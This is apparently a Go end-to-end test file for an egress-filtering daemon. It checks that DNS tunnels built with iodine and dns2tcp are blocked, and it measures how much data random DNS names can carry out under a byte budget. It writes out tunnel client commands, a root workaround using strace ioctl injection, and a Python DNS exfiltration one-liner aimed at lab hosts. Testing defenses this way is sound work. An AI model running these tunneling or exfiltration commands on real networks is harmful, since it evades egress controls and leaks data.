package run

import (
	"bytes"
	"context"
	"fmt"
	"math"
	"net"
	"os/exec"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/egressd/egressd/e2e/world"
	"github.com/egressd/egressd/internal/lab"
	"github.com/miekg/dns"
)

// namesPolicy allows what is below both domains that end at a tunnel's server.
const namesPolicy = "version: 1\nallow: [\"*.allowed.test\", \"*.tunnel.test\"]\n"

// serveIodine runs iodined in the internet.
func serveIodine(t *testing.T, d *world.Daemon) {
	t.Helper()
	ctx, cancel := context.WithCancel(context.Background())
	server := exec.CommandContext(ctx, "/usr/sbin/iodined", "-f", "-c", "-P", "x", "-l", world.IodineServer, "172.31.7.1/24", "i.tunnel.test")
	var talk bytes.Buffer
	server.Stdout, server.Stderr = &talk, &talk
	if err := d.World.Internet.Start(server); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cancel(); server.Wait() })
	if !world.Eventually(5*time.Second, func() bool { return hasPort(server, world.IodineServer, 53) }) {
		t.Fatalf("no server: %s", talk.String())
	}
	d.World.Zone.Delegate("tunnel.test", d.AtServers)
}

// outside runs a script in a network without egressd, and returns what it says.
func outside(t *testing.T, n *lab.Net, script string) string {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), 30*time.Second)
	defer cancel()
	var out bytes.Buffer
	cmd := exec.CommandContext(ctx, "sh", "-c", script)
	cmd.Stdout, cmd.Stderr = &out, &out
	if err := n.Run(cmd); err != nil && cmd.ProcessState == nil {
		t.Error(err)
	}
	return out.String()
}

// iodineKinds are the types that iodine has, and dnsKinds those of dns2tcp.
var iodineKinds = []string{"NULL", "PRIVATE", "TXT", "SRV", "MX", "CNAME", "A"}

const comesUp = "Connection setup complete"

// TestEscapesByTunnelsBelowAWildcard has the programs themselves try to make a tunnel
// to servers whose domain is allowed, through the name server of serve, and in run.
// In run iodine is told that it has an interface, which only root would get.
func TestEscapesByTunnelsBelowAWildcard(t *testing.T) {
	world.Covers(t, "DN-23")
	d := world.Start(t, world.WithNames(namesPolicy))
	serveTunnelFor(t, d, "t.tunnel.test")
	serveIodine(t, d)
	for _, kind := range []string{"NULL"} {
		direct := outside(t, d.World.Gateway, fmt.Sprintf("timeout 4 /usr/sbin/iodine -f -r -m 200 -P x -T %s %s i.tunnel.test 2>&1", kind, resolverHost()))
		if !strings.Contains(direct, comesUp) {
			t.Fatalf("without egressd, by %s: %s", kind, direct)
		}
	}
	if direct := unheld(t, d, dns2tcp("TXT", resolverHost())); !strings.Contains(direct, "through the tunnel") {
		t.Fatalf("without egressd: %q", direct)
	}
	asked := d.World.Zone.Mark()
	var all sync.WaitGroup
	for _, kind := range iodineKinds {
		all.Go(func() {
			out := outside(t, d.World.Sandbox, fmt.Sprintf("timeout 3 /usr/sbin/iodine -f -r -m 200 -P x -T %s %s i.tunnel.test 2>&1", kind, lab.GatewayIPv4))
			if strings.Contains(out, comesUp) || strings.Contains(out, "Server tunnel IP") || !strings.Contains(out, "Sending DNS queries") {
				t.Errorf("iodine by %s: %s", kind, out)
			}
		})
	}
	for _, kind := range []string{"TXT", "KEY"} {
		all.Go(func() {
			if out := outside(t, d.World.Sandbox, dns2tcp(kind, lab.GatewayIPv4)); strings.Contains(out, "through") {
				t.Errorf("dns2tcp by %s: %s", kind, out)
			}
		})
	}
	all.Wait()
	for _, name := range d.World.Zone.Since(asked) {
		if !strings.HasSuffix(name, ".tunnel.test") {
			t.Errorf("asked for %s", name)
		}
	}
	// Longer than a name is looked up for at the most, or an answer may yet come.
	if !world.Eventually(30*time.Second, func() bool { return silent(t, d, 6*time.Second) }) {
		t.Error("answers to the tunnels go on and on")
	}
	for user := range world.Users {
		script := fmt.Sprintf(`{ %s; %s; } & for k in %s; do timeout 3 %s strace -f -qq -o /dev/null -e trace=ioctl -e inject=ioctl:retval=0:when=1 /usr/sbin/iodine -f -r -m 200 -P x -T $k %s i.tunnel.test 2>&1 & done; wait; echo done`,
			dns2tcp("TXT", world.TunnelServer), dns2tcp("KEY", world.TunnelServer), strings.Join(iodineKinds, " "), becomeRoot[user], world.IodineServer)
		r := tries(t, d, user, escape{script: script, out: "done"})
		if strings.Contains(r.out, comesUp) || strings.Contains(r.out, "through") || strings.Count(r.out, "Sending DNS queries") != len(iodineKinds) {
			t.Errorf("%s, in run: %s", user, r.out)
		}
	}
}

// silent reports whether nothing is sent for so long.
func silent(t *testing.T, d *world.Daemon, long time.Duration) bool {
	t.Helper()
	mark, err := d.World.Wire.Mark()
	if err != nil {
		t.Fatal(err)
	}
	time.Sleep(long)
	packets, err := d.World.Wire.Since(mark)
	if err != nil {
		t.Fatal(err)
	}
	return len(packets) == 0
}

// becomeRoot has iodine, which asks for root, go on.
var becomeRoot = map[string]string{"root": "", "user": "unshare -Ur"}

func resolverHost() string {
	host, _, _ := net.SplitHostPort(world.Resolver)
	return host
}

func dns2tcp(kind, server string) string {
	return fmt.Sprintf(`sleep 1 | timeout 3 dns2tcpc -T %s -t 1 -z t.tunnel.test -k k -r svc -l - %s 2>&1`, kind, server)
}

// TestHowMuchNamesCarryOut sends itself out in names until it is refused, and counts
// what comes to the server of their domain: by long names about as much as the
// budget says, by short ones more.
func TestHowMuchNamesCarryOut(t *testing.T) {
	for _, row := range []struct {
		says          string
		labels, label int
		budget        int // in bytes; 0: that of who says nothing
		most          float64
	}{
		{"long names", 3, 63, 0, 1.25},
		{"names of eight characters", 1, 8, 256, 2},
		{"names of three", 1, 3, 256, 3.5},
	} {
		t.Run(row.says, func(t *testing.T) {
			text, budget := namesPolicy, 4096
			if row.budget != 0 {
				text, budget = text+fmt.Sprintf("limits: {dns_name_bytes: %d}\n", row.budget), row.budget
			}
			d := world.Start(t, world.WithNames(text))
			d.World.Zone.Delegate("tunnel.test", func(r *dns.Msg) *dns.Msg { return new(dns.Msg).SetReply(r) })
			asked := d.World.Zone.Mark()
			out := outside(t, d.World.Sandbox, fmt.Sprintf(exfiltrate, lab.GatewayIPv4, row.labels, row.label))
			if !strings.Contains(out, "ended") {
				t.Errorf("no end: %q", out)
			}
			names := world.Distinct(d.World.Zone.Since(asked))
			carried := float64(len(names)*row.labels*row.label) * math.Log2(36) / 8
			t.Logf("%d names carried %.0f bytes of a budget of %d", len(names), carried, budget)
			if carried > row.most*float64(budget) || len(names) == 0 {
				t.Errorf("%d names carried %.0f bytes", len(names), carried)
			}
		})
	}
}

// exfiltrate asks for random names at a server, of so many labels of so many
// characters, until enough of them were refused.
const exfiltrate = `python3 -c '
import random, socket, struct
s = socket.socket(2, 2); s.connect(("%s", 53)); s.settimeout(5)
refused = 0
for i in range(5000):
    name = b""
    for _ in range(%d): name += bytes([%[3]d]) + bytes(random.choice(b"abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(%[3]d))
    s.send(struct.pack(">HHHHHH", i, 256, 1, 0, 0, 0) + name + bytes([1]) + b"e" + bytes([6]) + b"tunnel" + bytes([4]) + b"test" + bytes([0, 0, 1, 0, 1]))
    try: refused += s.recv(512)[3] & 15 == 5
    except OSError: continue
    if refused > 20: print("ended"); break
'`
